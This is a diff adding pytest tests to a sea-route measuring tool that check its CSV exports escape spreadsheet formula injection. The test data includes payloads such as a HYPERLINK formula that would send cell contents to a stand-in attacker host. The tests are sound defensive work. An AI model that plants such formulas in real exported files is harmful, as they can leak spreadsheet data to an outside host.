@@ -155,3 +155,45 @@ def test_cli_export_html_with_a_voyage_month_and_subtitle(tmp_path, capsys):
     assert "Sea ice, March" in page
     assert main(["export-html", "--out", str(out), "--view", "0,0,99"]) == 2
     assert "--view must be x_km,y_km,zoom" in capsys.readouterr().err
+
+
+# ---- what the user typed stays text in every CSV ------------------------------------------------------------
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would run: starting with = + @ tab CR, or - before something that is not a number."""
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")
+            or (cell[:1] == "-" and not cell.lstrip("-").replace(".", "", 1).isdigit())]
+
+
+def test_no_csv_the_project_writes_starts_a_cell_with_a_formula(tmp_path, capsys):
+    from arctic_routes.cli import main as cli
+    from arctic_routes.export import lengths_csv
+    from arctic_routes.reports import format_lengths, format_measure
+    from arctic_routes.routes import lengths_table
+    from arctic_routes.tracks import load_track
+
+    features = [{"type": "Feature", "properties": {"name": name},
+                 "geometry": {"type": "LineString", "coordinates": [[0, 70], [i + 1, 71]]}}
+                for i, name in enumerate(FORMULAS)]
+    path = tmp_path / "evil.geojson"
+    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
+    tracks = load_track(path.name, path.read_bytes())
+    assert cli(["measure", str(path), "--format", "csv"]) == 0
+    written = [lengths_csv(tracks, list(tracks.index)), format_lengths(lengths_table(tracks), "csv"),
+               format_measure(tracks, "csv"), capsys.readouterr().out]
+    for text in written:
+        assert "'=HYPERLINK" in text and "'@SUM(A1:A2)" in text  # the names are there, as text
+        assert _formula_cells(text) == [], text
+
+
+def test_negative_numbers_stay_numbers_in_a_csv():
+    import pandas as pd
+
+    from arctic_routes.plaintext import csv_text
+
+    assert csv_text(pd.DataFrame({"saving_pct": [-12.5, 3.0], "name": ["-x", "ok"]})) == \
+        "saving_pct,name\n-12.5,'-x\n3.0,ok\n"
